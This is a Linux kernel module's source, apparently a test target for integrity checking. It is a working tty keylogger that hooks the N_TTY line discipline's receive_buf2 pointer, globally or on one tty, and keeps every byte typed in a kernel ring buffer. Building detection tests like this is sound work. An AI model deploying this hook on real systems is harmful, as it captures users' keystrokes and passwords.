// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_ttylog: a tty keylogger in the vlogger/linspy line, for
 * the integrity tests. It sees every byte a tty receives (what is typed
 * on a console or serial line, every ssh session's pty) by replacing the
 * line discipline's receive_buf2 with its own, which keeps the last
 * bytes in a small ring (the "log"), counts them in @hits and forwards
 * them to the original. No keyboard notifier, no input handler, nothing
 * in text or read-only data. Two techniques (@mode):
 *   ops: writes its function into n_tty_ops.receive_buf2 (the kernel's
 *        N_TTY table, writable data; its address in @ops, from
 *        /proc/kallsyms): every tty with N_TTY;
 *   tty: opens @path (a tty) and points that tty's tty->ldisc->ops at a
 *        copy of its table (in this module's data) with its own
 *        receive_buf2: that tty only, tty_ldiscs[] untouched.
 * Unloading restores the pointer (and closes @path).
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/err.h>
#include <linux/fcntl.h>
#include <linux/delay.h>
#include <linux/fs.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/string.h>
#include <linux/tty.h>
#include <linux/tty_ldisc.h>

static char *mode = "ops";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "ops: n_tty_ops.receive_buf2; tty: one tty's table");

static unsigned long ops;
module_param(ops, ulong, 0444);
MODULE_PARM_DESC(ops, "mode=ops: the address of n_tty_ops");

static char *path = "/dev/ttyS1";
module_param(path, charp, 0444);
MODULE_PARM_DESC(path, "mode=tty: the tty whose table is replaced");

static unsigned int hits;
module_param(hits, uint, 0444);
MODULE_PARM_DESC(hits, "bytes seen");

/*
 * 6.6 made receive_buf2's flags u8 and its count and result size_t; of
 * the kernels tested (6.1, 6.12) the newer one has scoped_tty (6.8+).
 */
#ifdef scoped_tty
#define TTYLOG_FLAGS	const u8 *
#define TTYLOG_COUNT	size_t
#else
#define TTYLOG_FLAGS	const char *
#define TTYLOG_COUNT	int
#endif

#define LOG_SIZE	256
static unsigned char log_ring[LOG_SIZE];
static struct tty_ldisc_ops *victim;	/* mode=ops: n_tty_ops */
static TTYLOG_COUNT (*orig)(struct tty_struct *tty, const unsigned char *cp,
			    TTYLOG_FLAGS fp, TTYLOG_COUNT count);
static struct tty_ldisc_ops copy;	/* mode=tty */
static struct tty_ldisc_ops *orig_ops;
static struct tty_struct *tty;
static struct file *filp;

static TTYLOG_COUNT
vmiaas_attack_ttylog_receive_buf2(struct tty_struct *t, const unsigned char *cp,
				  TTYLOG_FLAGS fp, TTYLOG_COUNT count)
{
	unsigned int n = READ_ONCE(hits);
	TTYLOG_COUNT i;

	for (i = 0; cp && i < count; i++)
		log_ring[(n + i) % LOG_SIZE] = cp[i];
	if (count > 0)
		WRITE_ONCE(hits, n + count);
	return orig(t, cp, fp, count);
}

static int ttylog_ops(void)
{
	if (!ops)
		return -EINVAL;
	victim = (struct tty_ldisc_ops *)ops;
	if (victim->num != N_TTY || !victim->receive_buf2)
		return -EINVAL;
	orig = victim->receive_buf2;
	WRITE_ONCE(victim->receive_buf2, vmiaas_attack_ttylog_receive_buf2);
	pr_info("n_tty_ops.receive_buf2 replaced\n");
	return 0;
}

static int ttylog_tty(void)
{
	struct tty_file_private *priv;

	filp = filp_open(path, O_RDWR | O_NOCTTY | O_NONBLOCK, 0);
	if (IS_ERR(filp))
		return PTR_ERR(filp);
	priv = filp->private_data;
	tty = priv ? priv->tty : NULL;
	if (!tty || !tty->ldisc || !tty->ldisc->ops->receive_buf2) {
		filp_close(filp, NULL);
		return -ENOTTY;
	}
	orig_ops = tty->ldisc->ops;
	copy = *orig_ops;
	orig = orig_ops->receive_buf2;
	copy.receive_buf2 = vmiaas_attack_ttylog_receive_buf2;
	WRITE_ONCE(tty->ldisc->ops, &copy);
	pr_info("tty %s: ldisc ops replaced by a copy\n", tty->name);
	return 0;
}

static int __init vmiaas_attack_ttylog_init(void)
{
	if (!strcmp(mode, "ops"))
		return ttylog_ops();
	if (!strcmp(mode, "tty"))
		return ttylog_tty();
	return -EINVAL;
}

static void __exit vmiaas_attack_ttylog_exit(void)
{
	if (victim)
		WRITE_ONCE(victim->receive_buf2, orig);
	if (tty) {
		WRITE_ONCE(tty->ldisc->ops, orig_ops);
		filp_close(filp, NULL);
	}
	msleep(100);	/* best effort: a receive_buf2 in flight returns */
	pr_info("restored after %u bytes\n", hits);
}

module_init(vmiaas_attack_ttylog_init);
module_exit(vmiaas_attack_ttylog_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmiaas test: a tty keylogger through the line discipline");
